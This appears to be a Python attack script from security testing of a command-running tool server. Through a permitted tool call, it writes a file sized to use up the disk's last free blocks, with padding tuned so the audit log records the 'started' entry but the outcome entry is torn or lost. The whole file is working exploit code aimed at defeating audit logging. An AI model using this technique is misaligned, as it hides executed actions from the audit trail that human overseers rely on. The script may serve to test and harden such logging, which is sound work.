# A call whose commit takes the filesystem's last free blocks: its "started" audit line fits, its outcome line does not.
import sys,json,os,time; sys.path.insert(0,"/work/notes/atk31")
from stdio import *
A="/tmp/atk31x/small/audit.jsonl"
s=Stdio("/tmp/atk31x/polsmall.toml")
def code(name,size,pad): return 'open("%s","wb").write(b"x"*%10d)#%s'%(name,size,"p"*pad)
def call(name,size,pad):
    return s.req("tools/call",{"name":"run_allowed_command","arguments":{"command":"python3.11","args":["-c",code(name,size,pad)]}},30)
# probe: small write, measure started/outcome line lengths
b0=os.path.getsize(A); r=call("probe",10,100)
lines=open(A,"rb").read()[b0:].split(b"\n")
lines=[l for l in lines if l]
print("probe lines",[ (len(l), json.loads(l)["decision"]) for l in lines])
st=[len(l)+1 for l in lines if b'"started"' in l][-1]; oc=[len(l)+1 for l in lines if b'"ran"' in l][-1]
a=st-100; b=oc-100
sz=os.path.getsize(A); S=(-sz)%4096
print("a",a,"b",b,"slack",S)
if S < a+10:
    # pad the page out with a refused call, then retry later
    print("slack too small; rerun"); sys.exit(1)
p=S-a-20
stv=os.statvfs("/tmp/atk31x/small"); avail=stv.f_bavail*stv.f_frsize
print("avail",avail,"pad",p)
r=call("victim",avail,p)
print("ANSWER:",json.dumps(r)[:600])
print("victim on disk:",os.path.exists("/tmp/atk31x/small/ws/victim"), os.path.getsize("/tmp/atk31x/small/ws/victim") if os.path.exists("/tmp/atk31x/small/ws/victim") else None)
tail=open(A,"rb").read()[sz:]
print("audit after:", [ (len(l), l[:60], (json.loads(l).get("decision") if l.endswith(b"}") else "TORN")) for l in tail.split(b"\n") if l])
